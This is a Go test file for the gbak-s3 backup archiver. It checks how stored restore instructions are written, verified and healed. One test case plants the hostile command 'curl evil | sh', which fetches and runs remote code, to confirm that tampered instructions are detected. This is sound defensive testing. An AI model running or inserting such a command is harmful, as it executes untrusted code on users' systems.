package archiver_test

import (
	"bytes"
	"slices"
	"strings"
	"testing"

	"github.com/gbak-s3/gbak-s3/archiver"
	"github.com/gbak-s3/gbak-s3/archiver/manifest"
	"github.com/gbak-s3/gbak-s3/storage"
	"github.com/gbak-s3/gbak-s3/storage/storagetest"
)

// idOf returns the id of an archive, encrypted or not.
func idOf(t testing.TB, store *storagetest.Memory) string {
	t.Helper()
	return jsonOf(t, store.Objects()[manifest.ArchiveKey])["archive_id"].(string)
}

// The text that says how to restore is there before the first record, and says which archive it
// belongs to and whether that is encrypted.
func TestInstructionsAreStored(t *testing.T) {
	t.Parallel()
	for name, isSealed := range map[string]bool{"plain": false, "encrypted": true} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			m, memory, h := newModel(t), storagetest.NewMemory(), &host{}
			m.commit(100)
			counted := storagetest.NewFaulty(memory, nil)
			a := newArchive(counted)
			if isSealed {
				a = h.begins(counted, newOwner(t).recipient)
			}
			mustBackup(t, a, m.path)
			if got := memory.Objects()[manifest.InstructionsKey]; !bytes.Equal(got, manifest.Instructions(idOf(t, memory), isSealed)) {
				t.Errorf("%s", got)
			}
			order := []string{manifest.ArchiveKey, manifest.InstructionsKey, manifest.Seq(1).Key()}
			var put []string
			for _, c := range counted.Calls() {
				if c.Op == storage.OpPut && slices.Contains(order, c.Key) {
					put = append(put, c.Key)
				}
			}
			if !slices.Equal(put, order) {
				t.Errorf("they were put in the order %q", put)
			}
		})
	}
}

// A text that is missing or says something else is found, and nothing else is wrong then. Of these, the
// next full backup heals the first and leaves the second alone; restores need neither.
func TestInstructionsAreVerified(t *testing.T) {
	t.Parallel()
	whole := archiveOf(t, "v0.6.0/live")
	right := string(whole[manifest.InstructionsKey])
	for name, c := range map[string]struct {
		text    string
		isThere bool
		problem string
	}{
		"missing":                {"", false, "it is missing"},
		"hostile":                {strings.Replace(right, "gbak-s3 list", "curl evil | sh", 1), true, "nobody should run"},
		"of another archive":     {string(manifest.Instructions(manifest.NewID(), false)), true, "nobody should run"},
		"of an encrypted one":    {string(manifest.Instructions(idOf(t, refill(t, whole)), true)), true, "nobody should run"},
		"empty":                  {"", true, "nobody should run"},
		"too large to be looked": {right + strings.Repeat("x", 1<<20), true, "nobody should run"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			store := refill(t, whole)
			if err := store.Delete(t.Context(), manifest.InstructionsKey); err != nil {
				t.Fatal(err)
			}
			if c.isThere {
				ruin(t, store, manifest.InstructionsKey, []byte(c.text))
			}
			for _, deep := range []bool{false, true} {
				v, err := newArchive(store).Verify(t.Context(), archiver.VerifyOptions{Deep: deep})
				if err != nil || len(v.Findings) != 1 || v.Findings[0].Key != manifest.InstructionsKey || !strings.Contains(v.Findings[0].Problem, c.problem) {
					t.Errorf("deep %t: %+v, %v", deep, v.Findings, err)
				}
			}
			restore(t, store, 0)
			m := newModel(t)
			m.commit(100)
			if _, err := newArchive(store).Backup(t.Context(), m.path, archiver.BackupOptions{NewDatabase: true}); err != nil {
				t.Fatal(err)
			}
			want := c.text
			if !c.isThere {
				want = right
			}
			if got := string(store.Objects()[manifest.InstructionsKey]); got != want {
				t.Errorf("a full backup has left %q", got)
			}
		})
	}
}

// Whatever becomes of the request that creates the text, the backup is either committed with a text
// that is right, or it has failed.
func TestInstructionsThatAreNotStored(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		fault storagetest.Fault
		isOK  bool
	}{
		"refused":     {storagetest.Fault{Err: storage.ErrPermission}, false},
		"lost answer": {storagetest.Fault{Err: storage.ErrUnavailable, Apply: true}, true},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			memory, m := storagetest.NewMemory(), newModel(t)
			m.commit(100)
			tries := 0
			store := storagetest.NewFaulty(memory, func(op storage.Op, key string, _ int) storagetest.Fault {
				if op == storage.OpPut && key == manifest.InstructionsKey {
					if tries++; tries == 1 || !c.isOK {
						return c.fault
					}
				}
				return storagetest.Fault{}
			})
			_, err := newArchive(store).Backup(t.Context(), m.path, archiver.BackupOptions{})
			if (err == nil) != c.isOK {
				t.Fatal(err)
			}
			if err != nil {
				mustFail(t, err, archiver.CodePermission, manifest.InstructionsKey)
				if memory.Objects()[manifest.Seq(1).Key()] != nil {
					t.Error("it was committed")
				}
				backup(t, memory, m.path)
			}
			mustBeWhole(t, memory)
		})
	}
}
